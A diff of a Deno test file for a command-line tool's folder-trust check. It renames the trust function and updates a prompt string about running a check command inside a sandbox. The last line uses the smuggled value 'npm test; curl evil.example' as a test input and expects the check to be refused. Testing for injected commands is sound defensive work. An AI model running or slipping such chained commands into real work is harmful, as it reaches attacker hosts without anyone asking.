@@ -1,5 +1,5 @@
 import { assertEquals, assertRejects, assertStringIncludes } from "@std/assert";
-import { requireFolderTrust } from "../../lib/cli/trust.ts";
+import { requireTrust } from "../../lib/cli/trust.ts";
 import { HumanInterventionRequiredError } from "../../lib/base/errors.ts";
 import { callCli } from "../support/call_cli.ts";
 import { fakeIo } from "../support/fake_io.ts";
@@ -11,7 +11,7 @@ Deno.test("a folder is trusted with its check once a person has said so; another
   await Deno.mkdir(env.HOME);
   const need = async (check: string, { isOwn = false, keys }: { isOwn?: boolean; keys?: readonly string[] } = {}) => {
     const io = fakeIo({ env, cwd: dir.path, terminal: keys !== undefined, keys: keys ?? [] });
-    await requireFolderTrust({ folder: dir.path, check }, { io, trust: false, mayAsk: true, isOwn });
+    await requireTrust({ folder: { folder: dir.path, check, isOwn } }, { io, trust: false, mayAsk: true });
     return io.written.stderr;
   };
   const isRefused = (check: string, options: Parameters<typeof need>[1] = {}) =>
@@ -21,7 +21,10 @@ Deno.test("a folder is trusted with its check once a person has said so; another
   await isRefused("npm test", { isOwn: true });
   await isRefused("npm test", { keys: ["n\n"] });
   const asked = await need("npm test", { keys: ["y\n"] });
-  assertStringIncludes(asked, '   runs a command after the work, outside of any sandbox: "npm test"  [check]\n');
+  assertStringIncludes(
+    asked,
+    '   runs a command after the work, in the sandbox where there is one: "npm test"  [check]\n',
+  );
   assertEquals(await need("npm test"), "");
 
   const { message } = await isRefused("npm test; curl evil.example");
